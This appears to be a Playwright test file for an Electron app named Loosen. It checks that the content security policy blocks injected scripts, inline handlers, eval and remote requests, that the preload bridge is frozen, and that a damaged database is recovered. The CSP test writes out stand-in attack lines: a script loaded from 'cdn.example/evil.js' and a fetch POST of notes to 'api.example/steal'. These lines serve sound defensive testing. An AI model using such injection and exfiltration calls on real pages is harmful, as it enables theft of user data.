import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from './harness/fixtures'

// Runtime security checks that can run in Chromium: the page is served with the same CSP
// header and meta tag as app://, and window.loosen is built by the same createApi as the preload.
// Checks that need Electron itself (navigation, new windows, permissions) are in
// tests/electron/security.spec.ts.

declare global {
  interface Window {
    __violations?: string[]
    __pwned?: string
  }
}

test.describe('the content security policy in the running page', () => {
  test('blocks injected inline script, inline handlers, eval and remote content', async ({
    loosen,
  }) => {
    const { page } = loosen
    await loosen.acknowledgeFirstRun()
    await loosen.open()
    await page.evaluate(() => {
      window.__violations = []
      document.addEventListener('securitypolicyviolation', (event) => {
        window.__violations?.push(`${event.effectiveDirective} ${event.blockedURI}`)
      })
      const inline = document.createElement('script')
      inline.textContent = "window.__pwned = 'inline script'"
      document.body.append(inline)
      const holder = document.createElement('div')
      holder.innerHTML = `<img src="data:image/png;base64,AAAA" onerror="window.__pwned = 'inline handler'">`
      document.body.append(holder)
      const remoteImage = document.createElement('img')
      remoteImage.src = 'https://tracker.example/pixel.png'
      document.body.append(remoteImage)
      const remoteScript = document.createElement('script')
      remoteScript.src = 'https://cdn.example/evil.js'
      document.body.append(remoteScript)
      void fetch('https://api.example/steal', { method: 'POST', body: 'notes' }).catch(() => null)
      // A string timer is eval from the page's own context (code run by the test driver
      // itself is exempt from the CSP, so eval is tried the way injected code would).
      const stringTimer = setTimeout as unknown as (code: string, ms: number) => number
      stringTimer("window.__pwned = 'eval'", 0)
    })
    await expect
      .poll(() => page.evaluate(() => [...(window.__violations ?? [])].sort()))
      .toEqual(
        expect.arrayContaining([
          'script-src-elem inline',
          'script-src-attr inline',
          'img-src https://tracker.example/pixel.png',
          'script-src-elem https://cdn.example/evil.js',
          'connect-src https://api.example/steal',
          'script-src eval',
        ]),
      )
    expect(await page.evaluate(() => window.__pwned)).toBeUndefined()
  })

  test('arrives as a header and as a meta tag, both without unsafe sources', async ({ loosen }) => {
    const { page } = loosen
    const response = await page.goto('http://loosen.test/index.html')
    const header = response?.headers()['content-security-policy'] ?? ''
    expect(header).toContain("default-src 'none'")
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content')
    expect(meta).toContain("script-src 'self'")
    for (const policy of [header, meta ?? '']) {
      expect(policy).not.toMatch(/unsafe-|https?:|\*/)
    }
  })
})

test.describe('the bridge in the page', () => {
  test('window.loosen is frozen, cannot be replaced, and is the only thing added', async ({
    loosen,
  }) => {
    const { page } = loosen
    await loosen.acknowledgeFirstRun()
    // The globals of an empty page in the same browser, to compare against.
    const blank = await page.context().newPage()
    await blank.goto('about:blank')
    const standard = await blank.evaluate(() => Object.getOwnPropertyNames(window))
    await blank.close()

    await loosen.open()
    const report = await page.evaluate((standardNames) => {
      const api = window.loosen as unknown as Record<string, Record<string, unknown>>
      const frozen =
        Object.isFrozen(api) && Object.values(api).every((members) => Object.isFrozen(members))
      const original = api['settings']?.['update']
      const attempt = (change: () => void) => {
        // Assigning to a frozen or read-only property throws in strict code, fails silently
        // otherwise; either way the value must stay.
        try {
          change()
        } catch {
          // refused
        }
      }
      attempt(() => {
        ;(api['settings'] as Record<string, unknown>)['update'] = () => 'hijacked'
      })
      const replaced = api['settings']?.['update'] !== original
      attempt(() => {
        ;(window as unknown as Record<string, unknown>)['loosen'] = {}
      })
      const swapped = (window as unknown as Record<string, unknown>)['loosen'] !== api
      const added = Object.getOwnPropertyNames(window).filter(
        (name) => !standardNames.includes(name),
      )
      const nodeGlobals = [
        'require',
        'process',
        'module',
        'exports',
        'Buffer',
        'global',
        '__dirname',
        'ipcRenderer',
        'electron',
      ].filter((name) => name in window)
      return { frozen, replaced, swapped, added, nodeGlobals }
    }, standard)
    expect(report.frozen).toBe(true)
    expect(report.replaced).toBe(false)
    expect(report.swapped).toBe(false)
    expect(report.nodeGlobals).toEqual([])
    // The harness's own transport (__loosenInvoke/__loosenDeliver) stands in for Electron's IPC;
    // apart from it the app adds exactly one global.
    // Bundled libraries keep their own page-side globals (Howler's audio objects, zod's
    // registry); none of them reaches main.
    const notBridges = [
      '__loosenInvoke',
      '__loosenDeliver',
      'Howler',
      'Howl',
      'HowlerGlobal',
      'Sound',
      '__zod_globalConfig',
      '__zod_globalRegistry',
    ]
    const fromApp = report.added.filter(
      (name) => !notBridges.includes(name) && !name.startsWith('__playwright'),
    )
    expect(fromApp).toEqual(['loosen'])
  })
})

test.describe('a damaged database', () => {
  test('is moved aside, the user is told where on every screen, and the app keeps working', async ({
    loosen,
  }) => {
    const { page } = loosen
    await loosen.acknowledgeFirstRun()
    const saved = await loosen.invoke('log:addRating', { value: 6, note: 'before the damage' })
    expect(saved.ok).toBe(true)
    const file = join(loosen.dataFolder, 'loosen.db')
    // Fold the WAL into the file so closing writes nothing more, then spoil the file.
    loosen.services().database.db.exec('PRAGMA wal_checkpoint(TRUNCATE)')
    const spoiled = Buffer.alloc(16_384, 0x5a)
    writeFileSync(file, spoiled)
    loosen.clock.set(Date.parse('2026-11-23T09:30:00Z'))
    loosen.restartServices()

    const movedTo = `${file}.unreadable-2026-11-23T09-30-00-000Z`
    expect(existsSync(movedTo)).toBe(true)
    expect(readFileSync(movedTo).equals(spoiled)).toBe(true)

    await loosen.open()
    // A fresh database: the welcome is back, and above everything the recovery notice.
    await page.getByRole('button', { name: 'Skip for now' }).click()
    const notice = page.getByRole('alert').filter({ hasText: 'Loosen started with fresh data' })
    await expect(notice).toBeVisible()
    await expect(notice).toContainText('damaged or is not a database')
    await expect(notice).toContainText(movedTo)
    await expect(notice).toContainText('was not deleted')

    for (const shortcut of ['Alt+2', 'Alt+5']) {
      await page.keyboard.press(shortcut)
      await expect(notice).toBeVisible()
    }

    // The app works on the fresh database.
    const added = await loosen.invoke('log:addRating', { value: 2, note: 'after the recovery' })
    expect(added.ok).toBe(true)

    await notice.getByRole('button', { name: 'Dismiss' }).click()
    await expect(notice).toBeHidden()
    await page.reload()
    await expect(page.locator('h1.screen-title')).toBeVisible()
    await expect(page.getByText('Loosen started with fresh data')).toBeHidden()
  })
})
